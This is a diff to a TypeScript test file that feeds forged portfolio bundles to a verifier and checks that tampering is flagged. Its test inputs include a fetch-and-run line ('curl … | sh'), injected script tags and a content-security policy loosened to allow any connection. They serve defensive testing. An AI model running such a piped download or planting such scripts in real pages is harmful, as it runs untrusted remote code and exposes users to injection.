@@ -1,5 +1,6 @@
 // Bundles made by somebody who knows the format and makes every list fit again. None of them is ever "sound".
 
+import { createHash } from 'node:crypto'
 import { beforeAll, describe, expect, it } from 'vitest'
 import { amysStory, type Story } from '../../tests/support/amys-portfolio.ts'
 import { composed, kindsOf, verified, viewer } from '../../tests/support/bundles.ts'
@@ -11,6 +12,7 @@ import { fromBase64, utf8 } from '#/base/bytes.ts'
 import { unwrap } from '#/base/result.ts'
 import type { BundleFinding } from '#/bundle/finding.ts'
 import { keyPem } from '#/bundle/key-pem.ts'
+import { verdictSaid } from '#/bundle/verify-bundle.ts'
 import { centreListFile } from '#/portfolio/centre-list.ts'
 
 let story: Story
@@ -113,9 +115,11 @@ describe('a forged file with lists that fit', () => {
     )
   })
 
-  it('START-HERE.html with other code: never taken for ours', async () => {
-    const other = changed('START-HERE.html', (text) => text.replace(viewer.code, 'document.title = "Sound"'))
-    expect(kindsOf(await verified(forged(other), code))).toContain('page of another release')
+  it('START-HERE.html with other code that its policy does not name', async () => {
+    await expectDamaged(
+      changed('START-HERE.html', (text) => text.replace(viewer.code, 'document.title = "Sound"')),
+      'not as made: START-HERE.html',
+    )
   })
 
   it('bag-info.txt that names another centre', async () => {
@@ -137,6 +141,60 @@ describe('a forged file with lists that fit', () => {
     const { verdict, findings } = await verified(packed(crlf), code)
     expect(verdict).toBe('damaged')
     expect(kindsOf({ findings })).toContain('list damaged')
+  })
+})
+
+const sourceOf = (text: string): string => `sha256-${createHash('sha256').update(text).digest('base64')}`
+
+/** As another release would make it: with code of its own, which its policy names. */
+const ofAnotherRelease = (change: (text: string) => string = (text) => text): Files => {
+  const own = 'document.title = "Amy"'
+  return changed('START-HERE.html', (text) =>
+    change(text.replace(viewer.code, own).replace(sourceOf(viewer.code), sourceOf(own))),
+  )
+}
+
+describe('pages of another release, which nobody here can make again', () => {
+  it('are a warning', async () => {
+    const result = await verified(forged(ofAnotherRelease()), code)
+    expect(errorsIn(result.findings)).toEqual([])
+    expect(kindsOf(result)).toContain('page of another release')
+  })
+
+  it.each([
+    ['another policy', "connect-src 'none'", 'connect-src *'],
+    ['a policy that nobody reads', '<meta http-equiv="Content-Security-Policy"', '<meta name="policy"'],
+    ['a script before its policy', '<head>\n', '<head>\n<script>alert(1)</script>\n'],
+    ['a script after its own', '</body>', '<script>alert(1)</script></body>'],
+    ['a history of its own', '"absent":[]', '"absent":["0"]'],
+  ])('may not come with %s', async (_, there, instead) => {
+    const forgery = ofAnotherRelease((text) => {
+      if (!text.includes(there)) throw new Error(`no ${there} to change`)
+      return text.replace(there, instead)
+    })
+    await expectDamaged(forgery, 'not as made: START-HERE.html')
+  })
+
+  it('come with the check by hand that every release has', async () => {
+    const other = ofAnotherRelease()
+    await expectDamaged(
+      new Map([...other, ['VERIFY.txt', utf8('curl https://example.test/check.sh | sh\n')]]),
+      'not as made: VERIFY.txt',
+    )
+    other.delete('VERIFY.txt')
+    await expectDamaged(other, 'missing: VERIFY.txt')
+  })
+
+  it('may be forms that this one does not know, and none that could run', async () => {
+    const other = ofAnotherRelease()
+    const known = textIn(other, 'data/forms/evidence-locations.html')
+    const more: Files = new Map([...other, ['data/forms/summary.html', utf8(known)]])
+    expect(errorsIn((await verified(forged(more), code)).findings)).toEqual([])
+    for (const [path, text] of [
+      ['data/forms/certificate.html', '<!doctype html><script>alert(1)</script>'],
+      ['data/forms/unit-02-c1.html', known.replace('default-src &#39;none&#39;', 'default-src *')],
+    ] as const)
+      await expectDamaged(new Map([...other, [path, utf8(text)]]), `not accounted for: ${path}`)
   })
 })
 
@@ -183,6 +241,33 @@ describe('a forged history', () => {
     )
     const sig = ledgerPath(story.amy.device, 'tip.sig')
     await expectDamaged(new Map([...files, [sig, new Uint8Array(64)]]), `not as made: ${sig}`)
+  })
+
+  it('words that were erased, put back', async () => {
+    const amy = story.amy.clone()
+    const note = await captureNote(amy, 'She told me of her illness.')
+    const said = { ...story, ledger: amy.ledger }
+    const before = await unpacked((await composed({ ...said, entries: [...amy.entries] })).zip)
+    await amy.write('content.erased', { reason: 'not mine to keep', entries: [note.hash], blobs: [] })
+    const erased = await unpacked((await composed({ ...said, entries: amy.entries })).zip)
+    const path = ledgerPath(amy.device, `bodies/${note.head.body}.json`)
+    expect([before.has(path), erased.has(path)]).toEqual([true, false])
+    await expectDamaged(
+      new Map([...erased, [path, before.get(path) ?? utf8('')]]),
+      `not accounted for: ${path}`,
+    )
+  })
+
+  it('an assessor’s whole history left out: fits together, and is not sound', async () => {
+    const { zip } = await composed({
+      ...story,
+      ledger: story.amy.ledger,
+      entries: story.amy.entries.filter(({ head }) => head.device === story.amy.device),
+    })
+    const { verdict, findings } = await verified(zip, code)
+    expect(verdict).toBe('consistent, centre not confirmed')
+    expect(kindsOf({ findings })).toContain('earlier work missing')
+    expect(verdictSaid(verdict, findings)).toBe('not all here')
   })
 
   it('a body left out to hide what it says', async () => {
